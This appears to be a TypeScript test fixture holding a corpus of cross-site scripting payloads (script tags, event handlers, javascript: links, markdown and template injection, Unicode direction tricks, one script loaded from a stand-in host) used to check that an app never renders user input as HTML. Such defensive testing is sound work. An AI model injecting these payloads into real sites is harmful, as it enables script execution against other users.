// The XSS corpus of the hostile-content spec: classic payloads a member may type into any field.
// Each would show a dialog, set window.__xss or leave an element or attribute behind if the app
// ever rendered text as HTML or a link as given.

export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="window.__xss=1">',
  '<IMG SRC="javascript:alert(1);">',
  '<img src="x" onerror="&#97;lert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert`1`>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click me</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">entity</a>',
  'javascript:alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<style>*{display:none}</style>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '[click](javascript:alert(1))',
  '![img](x" onerror="alert(1))',
  '[a](https://example.com" onclick="alert(1))',
  '<https://example.com/"><script>alert(1)</script>>',
  'https://example.com/"onmouseover="alert(1)',
  'http://example.com/<script>alert(1)</script>',
  'www.example.com/?q=<img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, on purpose
  '${alert(1)}',
  '\u202Egnp.exe\u202C evil RTL override',
  '\u200F\u202Bright-to-left \u05E9\u05DC\u05D5\u05DD\u202C',
  'zero\u200Bwidth\u200Djoiner\uFEFF',
  'a'.repeat(300),
  `${'W'.repeat(120)}-${'m'.repeat(120)}`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
];

/** Payloads packed into texts of at most `max` characters (no line breaks inside one). */
export function packPayloads(payloads: readonly string[], max: number): string[][] {
  const packs: string[][] = [];
  let current: string[] = [];
  let size = 0;
  for (const p of payloads) {
    const cost = p.length + 2;
    if (size + cost > max && current.length > 0) {
      packs.push(current);
      current = [];
      size = 0;
    }
    current.push(p);
    size += cost;
  }
  if (current.length > 0) packs.push(current);
  return packs;
}
